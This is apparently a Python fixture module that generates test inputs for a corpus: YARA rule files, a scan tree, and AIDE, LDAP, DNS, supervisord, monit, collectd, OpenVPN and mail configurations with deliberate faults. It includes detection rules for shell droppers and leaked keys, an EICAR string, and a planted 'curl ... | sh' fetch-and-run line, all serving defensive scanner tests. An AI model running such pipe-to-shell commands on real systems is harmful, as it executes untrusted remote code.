"""Fixture texts of the `wild21` corpus (`gen.py`): rule sets, configurations, directory data,
programs a supervisor runs, all written for this set."""

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def yara_rules():
    """Three rule files: two good ones and one with an undefined identifier and a bad regex."""
    good = """rule Secret_Token : creds
{
    meta:
        author = "ops"
    strings:
        $a = "AKIA" ascii
        $b = /token=[A-Za-z0-9]{12,}/
    condition:
        any of them
}

rule Shell_Dropper
{
    strings:
        $s1 = "curl -s http" ascii
        $s2 = "| sh" ascii
    condition:
        all of them
}

rule Eicar_Test
{
    strings:
        $e = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
    condition:
        $e
}
"""
    more = """import "math"
rule High_Entropy_Blob
{
    condition:
        filesize > 2KB and math.entropy(0, filesize) > 7.0
}

rule Private_Key
{
    strings:
        $k = "-----BEGIN RSA PRIVATE KEY-----"
    condition:
        $k at 0
}
"""
    broken = """rule Broken_Ref
{
    strings:
        $x = "payload"
    condition:
        $x and $missing
}

rule Bad_Regex
{
    strings:
        $r = /abc(def/
    condition:
        $r
}
"""
    return {"rules/secrets.yar": good, "rules/blobs.yar": more, "rules/broken.yar": broken}


def scan_tree(n=150):
    """A tree of text files, a few with contents the rules (and clamscan) find."""
    files = {}
    for i in range(n):
        body = "".join(f"line {j} of document {i}\n" for j in range(20))
        if i % 17 == 3:
            body += f"export token=ab{i:02d}CDEFghij1234\n"
        if i % 23 == 5:
            body += "curl -s http://example.test/x | sh\n"
        files[f"tree/d{i % 5}/doc{i:03d}.txt"] = body
    files["tree/d2/eicar.com"] = EICAR
    files["tree/d4/keys/id_rsa"] = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n"
    return files


def aide_conf(root):
    """An AIDE configuration over `root`/watched with its database files under `root`/db."""
    return f"""database_in=file:{root}/db/aide.db
database_out=file:{root}/db/aide.db.new
gzip_dbout=no
report_url=stdout
report_level=list_entries
Checks = p+i+n+u+g+s+m+c+sha256
{root}/watched Checks
!{root}/watched/tmp
{root}/watched/logs Checks-bogus
"""


def slapd_conf(root, port=None):
    """A slapd.conf with an mdb database under `root`/ldapdb."""
    return f"""include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
include /etc/ldap/schema/nis.schema
pidfile {root}/slapd.pid
modulepath /usr/lib/ldap
moduleload back_mdb
loglevel stats
database mdb
suffix "dc=example,dc=test"
rootdn "cn=admin,dc=example,dc=test"
rootpw secret
directory {root}/ldapdb
index objectClass eq
index uid eq
"""


def people_ldif(n=40, bad=(13, 27)):
    """The base, two units and `n` people; the entries numbered in `bad` are broken (an
    attribute the schema lacks, a parent that does not exist)."""
    out = ["dn: dc=example,dc=test\nobjectClass: dcObject\nobjectClass: organization\no: Example\ndc: example\n",
           "dn: ou=people,dc=example,dc=test\nobjectClass: organizationalUnit\nou: people\n",
           "dn: ou=groups,dc=example,dc=test\nobjectClass: organizationalUnit\nou: groups\n"]
    for i in range(n):
        parent = "ou=staff,dc=example,dc=test" if i == bad[1] else "ou=people,dc=example,dc=test"
        extra = "shoeSize: 44\n" if i == bad[0] else ""
        out.append(f"dn: uid=user{i:02d},{parent}\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\n"
                   f"uid: user{i:02d}\ncn: User {i}\nsn: Number{i}\nuidNumber: {2000 + i}\ngidNumber: 2000\n"
                   f"homeDirectory: /home/user{i:02d}\nmail: user{i:02d}@example.test\n{extra}")
    return "\n".join(out)


def zone(broken=False):
    """A zone for example.test (40 hosts); the broken one has a CNAME beside other data, a CNAME
    at the apex's neighbour pointing out of zone, an MX to a CNAME and a record below a CNAME."""
    z = ["$TTL 3600", "@ IN SOA ns1.example.test. hostmaster.example.test. 2026120701 3600 600 604800 300",
         "@ IN NS ns1.example.test.", "@ IN NS ns2.example.test.", "ns1 IN A 192.0.2.1", "ns2 IN A 192.0.2.2",
         "@ IN MX 10 mail.example.test."]
    for i in range(40):
        z.append(f"host{i:02d} IN A 192.0.2.{10 + i}")
        if i % 8 == 0:
            z.append(f"host{i:02d} IN TXT \"rack {i // 8}\"")
    if broken:
        z += ["www IN CNAME host03.example.test.", "www IN A 192.0.2.99", "mail IN CNAME host04.example.test.",
              "alias IN CNAME alias2.example.test.", "alias2 IN CNAME alias.example.test.",
              "deep.www IN A 192.0.2.98", "under_score IN A 192.0.2.96",
              "ns3 IN AAAA 2001:db8::300"]
    else:
        z += ["www IN A 192.0.2.80", "mail IN A 192.0.2.81"]
    return "\n".join(z) + "\n"


def supervisord_conf(root):
    """supervisord with a steady worker, a program that crashes after a while, one whose command
    does not exist and a chatty one."""
    return f"""[unix_http_server]
file={root}/supervisor.sock

[supervisord]
logfile=/dev/stdout
logfile_maxbytes=0
loglevel=debug
pidfile={root}/supervisord.pid
childlogdir={root}/logs
nodaemon=true

[rpcinterface:supervisor]
supervisor.rpcinterface_factory = supervisor.rpcinterface:make_main_rpcinterface

[supervisorctl]
serverurl=unix://{root}/supervisor.sock

[program:steady]
command=python3 -u {root}/steady.py
startsecs=1
redirect_stderr=true
stdout_logfile=/dev/stdout
stdout_logfile_maxbytes=0

[program:crasher]
command=python3 -u {root}/crasher.py
startsecs=2
startretries=3
autorestart=true
stdout_logfile=/dev/stdout
stdout_logfile_maxbytes=0
stderr_logfile=/dev/stdout
stderr_logfile_maxbytes=0

[program:ghost]
command={root}/no-such-daemon --serve
startretries=2

[program:reporter]
command=python3 -u {root}/reporter.py
autorestart=false
stdout_logfile=/dev/stdout
stdout_logfile_maxbytes=0
"""


STEADY = """import time, sys
for i in range(40):
    print(f"steady: tick {i} queue=0 ok", flush=True)
    time.sleep(0.25)
"""

CRASHER = """import sys, time
print("crasher: loading settings from /etc/crasher.ini", flush=True)
time.sleep(2.5)
cfg = {"port": 8125}
print(f"crasher: binding port {cfg['port']}", flush=True)
raise KeyError("database_url")
"""

REPORTER = """import time
for i in range(30):
    print(f"reporter: batch {i:02d} processed 128 rows in 0.{i % 9 + 1}s", flush=True)
    if i == 17:
        print("reporter: WARNING batch 17 had 3 rows with empty customer id, skipped", flush=True)
    time.sleep(0.1)
print("reporter: done, 30 batches", flush=True)
"""


def procfile():
    """A Procfile: a web server, a worker that logs steadily and a migrator that fails."""
    return ("web: python3 -u -m http.server 18731 --bind 127.0.0.1\n"
            "worker: python3 -u worker.py\n"
            "poller: bash -c 'for i in $(seq 1 60); do curl -s -o /dev/null -w \"poll $i %{http_code}\\n\" "
            "http://127.0.0.1:18731/status$((i % 3)).txt; sleep 0.1; done'\n"
            "migrate: python3 -u migrate.py\n")


WORKER = """import time
for i in range(200):
    print(f"job {i:03d} picked from queue default", flush=True)
    time.sleep(0.08)
"""

MIGRATE = """import time, sys
steps = ["0001_initial", "0002_users", "0003_orders", "0004_index_orders", "0005_drop_legacy"]
for s in steps:
    time.sleep(1.8)
    if s == "0004_index_orders":
        print(f"Applying {s}...", flush=True)
        print("Traceback (most recent call last):", file=sys.stderr)
        print('  File "migrate.py", line 9, in <module>', file=sys.stderr)
        print("sqlite3.OperationalError: no such column: orders.customer_ref", file=sys.stderr, flush=True)
        sys.exit(3)
    print(f"Applying {s}... OK", flush=True)
"""

CELERY_TASKS = """from celery import Celery
app = Celery("shop", broker="redis://127.0.0.1:16391/0", backend="redis://127.0.0.1:16391/1")
app.conf.worker_hijack_root_logger = True


@app.task
def add(x, y):
    return x + y


@app.task
def invoice(order_id):
    if order_id % 13 == 0:
        raise ValueError(f"order {order_id} has no billing address")
    return {"order": order_id, "total": order_id * 3}


@app.task(bind=True, max_retries=2, default_retry_delay=1)
def notify(self, user):
    if user == "bob":
        raise self.retry(exc=ConnectionError("smtp 127.0.0.1:2525 refused"))
    return f"sent to {user}"
"""

CELERY_CLIENT = """import time
from tasks import add, invoice, notify
rs = [add.delay(i, i) for i in range(10)] + [invoice.delay(i) for i in range(1, 30)]
rs += [notify.delay(u) for u in ("ann", "bob", "cid")]
time.sleep(8)
for r in rs:
    print(r.id, r.state)
"""


def monitrc(root):
    """monit checks: a file, a directory, a host on a dead port, a process that is not running,
    a program whose status is non-zero."""
    return f"""set daemon 2
set logfile /dev/stdout
set idfile {root}/monit.id
set statefile {root}/monit.state
set httpd port 12812 and use address 127.0.0.1 allow localhost

check file app_config with path {root}/app.conf
    if changed checksum then alert
    if size > 10 B then alert

check directory spool with path {root}/spool
    if does not exist then alert

check host api with address 127.0.0.1
    if failed port 18999 protocol http then alert
    if failed port 12812 then alert

check process queued with pidfile {root}/queued.pid
    start program = "/bin/false"

check program backup_age with path "/bin/sh -c 'exit 2'"
    if status != 0 then alert

check filesystem rootfs with path /
    if space usage > 99% then alert
"""


def collectd_conf(root):
    """collectd with cpu, memory, load, df, an exec plugin whose script fails after a few
    reads, and a csv writer to `root`/csv."""
    return f"""Hostname "lab1"
Interval 1
LoadPlugin logfile
<Plugin logfile>
  LogLevel debug
  File STDOUT
  Timestamp true
  PrintSeverity true
</Plugin>
LoadPlugin cpu
LoadPlugin memory
LoadPlugin load
LoadPlugin df
LoadPlugin exec
LoadPlugin csv
<Plugin df>
  MountPoint "/"
  MountPoint "/nonexistent-mount"
</Plugin>
<Plugin exec>
  Exec "nobody" "{root}/probe.sh"
</Plugin>
<Plugin csv>
  DataDir "{root}/csv"
  StoreRates true
</Plugin>
"""


PROBE = """#!/bin/sh
n=0
while true; do
  n=$((n+1))
  echo "PUTVAL lab1/exec-queue/gauge-depth N:$n"
  if [ $n -eq 4 ]; then echo "PUTVAL lab1/exec-queue/gauge N:abc"; echo "probe: upstream 127.0.0.1:9 unreachable" >&2; exit 1; fi
  sleep 1
done
"""


def openvpn_conf(port, peer, key, verb=4):
    """A point-to-point tunnel on the null device (no interface is made)."""
    return (f"dev null\nproto udp\nlport {port}\nremote 127.0.0.1 {peer}\nsecret {key}\n"
            f"cipher AES-256-CBC\nauth SHA256\nifconfig-noexec\nping 1\nping-exit 9\nverb {verb}\n")

SMTP_CLIENT = """import smtplib
for i in range(8):
    s = smtplib.SMTP("127.0.0.1", 12525)
    s.set_debuglevel(1)
    try:
        rcpt = ["<<bad"] if i == 4 else ["bob@example.test", f"team{i}@example.test"]
        s.sendmail("ann@example.test", rcpt, f"Subject: report {i}\\r\\n\\r\\nbody {i}\\r\\n")
    except Exception as e:
        print("client error:", repr(e))
    s.quit()
"""
